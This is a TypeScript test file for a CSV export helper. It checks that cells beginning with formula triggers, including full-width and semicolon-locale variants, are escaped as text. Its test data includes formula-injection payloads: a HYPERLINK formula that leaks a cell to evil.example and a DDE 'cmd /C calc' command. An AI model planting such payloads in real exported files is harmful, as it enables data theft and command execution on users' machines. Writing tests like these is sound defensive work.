import { describe, expect, it } from 'vitest';
import { csvCell, toCsv } from './csv.js';

/** How a spreadsheet in a semicolon locale cuts a line into cells: on every `;` outside a quoted field. */
function semicolonCells(line: string): string[] {
  const cells: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < line.length; i++) {
    const ch = line[i]!;
    if (ch === '"' && cell === '' && !quoted) quoted = true;
    else if (ch === '"' && quoted && line[i + 1] === '"') {
      cell += '"';
      i++;
    } else if (ch === '"' && quoted) quoted = false;
    else if (ch === ';' && !quoted) {
      cells.push(cell);
      cell = '';
    } else cell += ch;
  }
  cells.push(cell);
  return cells;
}

const FORMULA = /^[\s]*[=+\-@\t\r]/;

describe('toCsv', () => {
  it('quotes separators and escapes formula cells', () => {
    const csv = toCsv(
      ['a', 'b'],
      [
        ['=1+1', 'x,y'],
        ['@SUM(A1)', 'say "hi"'],
        ['-2', null],
        ['+cmd', 3],
      ],
    );
    expect(csv.split('\r\n')).toEqual([
      'a,b',
      `"'=1+1","x,y"`,
      `"'@SUM(A1)","say ""hi"""`,
      `"'-2",`,
      `"'+cmd",3`,
    ]);
  });

  it('leaves plain cells, numbers and plain phone numbers as they are', () => {
    expect(toCsv(['S. No', 'Name', 'Order Count'], [[1, 'Demo Manager', 12]])).toBe(
      'S. No,Name,Order Count\r\n1,Demo Manager,12',
    );
    expect(csvCell(-2)).toBe('-2');
    expect(csvCell('+297 555 1234')).toBe('+297 555 1234');
    expect(csvCell('+1 (555) 010-9999')).toBe('+1 (555) 010-9999');
    expect(csvCell("O'Brien")).toBe("O'Brien");
    // Not a plain phone number once letters or a formula follow the plus sign.
    expect(csvCell('+297+HYPERLINK("http://x")')).toBe(`"'+297+HYPERLINK(""http://x"")"`);
    expect(csvCell('+1:1')).toBe(`"'+1:1"`);
  });

  it('neutralises the full-width ＝ ＋ － ＠ like their ASCII forms', () => {
    for (const trigger of ['＝', '＋', '－', '＠']) {
      expect(csvCell(`${trigger}HYPERLINK("http://x")`)).toBe(`"'${trigger}HYPERLINK(""http://x"")"`);
      expect(csvCell(` ${trigger}1+1`)).toBe(`"' ${trigger}1+1"`);
      expect(csvCell(`a;${trigger}cmd`)).toBe(`"a;'${trigger}cmd"`);
    }
  });

  it('neutralises tab, CR, NUL and leading spaces or quotes before a formula', () => {
    // The tab and CR could also start a cell or row of their own: what follows them is neutralised too.
    expect(csvCell('\t=1')).toBe(`"'\t'=1"`);
    expect(csvCell('\r=1')).toBe(`"'\r'=1"`);
    expect(csvCell('\u0000x')).toBe(`"'\u0000x"`);
    expect(csvCell('  =1+1')).toBe(`"'  =1+1"`);
    expect(csvCell('"=1+1')).toBe(`"'""=1+1"`);
  });

  it('keeps a semicolon from starting a formula cell in semicolon-locale spreadsheets', () => {
    const hostile = [
      'Smith;=HYPERLINK("http://evil.example/?"&A1;"x")',
      'x; -2+3',
      'a;"@SUM(1)',
      "line\n=cmd|' /C calc'!A0",
      'tab\t+1+1',
      'a,=1+1',
    ];
    const csv = toCsv(
      ['S. No', 'Remark', 'Phone'],
      [[1, hostile[0]!, '+297 555 1234'], ...hostile.slice(1).map((h, i) => [i + 2, h, ''])],
    );
    // Every cell a semicolon locale makes of every line (and of every row a bare line break starts) is text.
    for (const line of csv.split(/\r\n|\n/)) {
      for (const cell of semicolonCells(line)) expect(cell, line).not.toMatch(FORMULA);
    }
    // A comma locale reads the quoted cells whole: the remark comes back with only the added quotes.
    expect(csvCell(hostile[0])).toBe(`"Smith;'=HYPERLINK(""http://evil.example/?""&A1;""x"")"`);
    expect(csvCell('x; -2+3')).toBe(`"x;' -2+3"`);
    expect(csvCell('a;b')).toBe('"a;b"');
    expect(csvCell('call +297 555 1234; +297 555 9999')).toBe('"call +297 555 1234; +297 555 9999"');
  });
});
